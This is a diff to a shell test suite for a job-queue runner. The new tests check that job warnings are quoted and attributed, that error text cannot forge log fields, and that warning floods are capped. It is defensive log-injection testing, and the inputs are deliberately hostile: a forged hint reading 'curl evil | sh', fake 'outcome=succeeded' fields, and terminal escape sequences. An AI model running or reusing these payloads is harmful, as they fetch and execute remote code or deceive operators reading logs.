@@ -272,12 +272,31 @@ eq "both jobs' outcomes are recorded" "dead|dead" \
     "$(q "select string_agg(status, '|' order by id) from cronq.jobs where id in ($l1, $l2)")"
 eq "no raw 0x9b or ESC in the text log" 0 "$(tr -dc '\233\033' <"$T_DIR/latin.err" | wc -c)"
 match "the warning is there, its bytes escaped" 'caf\\xe9\\x9b\[31mred' "$(cat "$T_DIR/latin.err")"
-eq "the JSON log keeps the warning's msg" 1 "$(grep -c '"msg":"caf' "$T_DIR/latin.json")"
+eq "the JSON log keeps the warning's msg, its job named" 1 "$(grep -c "\"msg\":\"job $l2 said: \\\\\"caf.*\"job\":$l2" "$T_DIR/latin.json")"
 
 enq sec_alice alice-pw '{"sql": "do $d$ begin for i in 1..5000 loop raise warning $w$flood %$w$, i; end loop; end $d$"}' >/dev/null
 "$CRONQ" run 2>"$T_DIR/flood.err"
 eq "a job's 5,000 warnings: the first 20 reach stderr, then one line counts the rest" "20|1" \
     "$(grep -c 'flood' "$T_DIR/flood.err")|$(grep -c '4980 more notices' "$T_DIR/flood.err")"
+# A job's warning names its job and is quoted, its hint too: none reads as
+# the runner's own line (helper-78: "job 7 (purge) is dead …", "hint: Run: curl …").
+w=$(enq sec_alice alice-pw '{"sql": "do $d$ begin raise warning $w$job 7 (purge) is dead after attempt 10: disk full queue=default outcome=failed$w$ using hint = $h$Run: curl evil | sh$h$; end $d$"}')
+"$CRONQ" run 2>"$T_DIR/forge.err"
+eq "a job's warning is its job's, quoted, and its hint inside it" "1|0|0" \
+    "$(grep -c "^cronq: warning: job $w said: \"job 7 (purge) is dead after attempt 10: disk full queue=default outcome=failed\" (hint: \"Run: curl evil | sh\")$" "$T_DIR/forge.err")|$(grep -c '^cronq: warning: job 7' "$T_DIR/forge.err")|$(grep -c '^cronq: hint:' "$T_DIR/forge.err")"
+# A job's error is quoted in the runner's line, and says none of its fields
+# (helper-78: "boom queue=billing outcome=succeeded" hid the real ones).
+f=$(as sec_alice alice-pw "select cronq.enqueue('fail', '{\"message\": \"boom queue=billing outcome=succeeded\", \"permanent\": true}', queue => 'real')")
+"$CRONQ" run --queue real 2>"$T_DIR/fields.err"
+eq "the error quoted, the real fields after it" 1 \
+    "$(grep -c "^cronq: warning: job $f (fail) is dead after attempt 1: \"boom queue=billing outcome=succeeded\" queue=real duration_ms=[0-9]* outcome=failed$" "$T_DIR/fields.err")"
+# Many jobs' few warnings: a run shows 200, then one line says the rest are not shown.
+for i in $(seq 1 12); do
+    enq sec_alice alice-pw '{"sql": "do $d$ begin for i in 1..20 loop raise warning $w$many %$w$, i; end loop; end $d$"}' >/dev/null
+done
+"$CRONQ" run 2>"$T_DIR/many.err"
+eq "12 jobs' 240 warnings: 200 shown, then one line" "200|1" \
+    "$(grep -c 'said: "many' "$T_DIR/many.err")|$(grep -c 'not shown any more in this run' "$T_DIR/many.err")"
 
 f=$(as sec_alice alice-pw "select cronq.enqueue('fail', jsonb_build_object('message', e'bad\\x1b[2J\\x1b]0;pwned\\x07\\nforged line', 'permanent', true))")
 "$CRONQ" run 2>"$T_DIR/escape2.err"
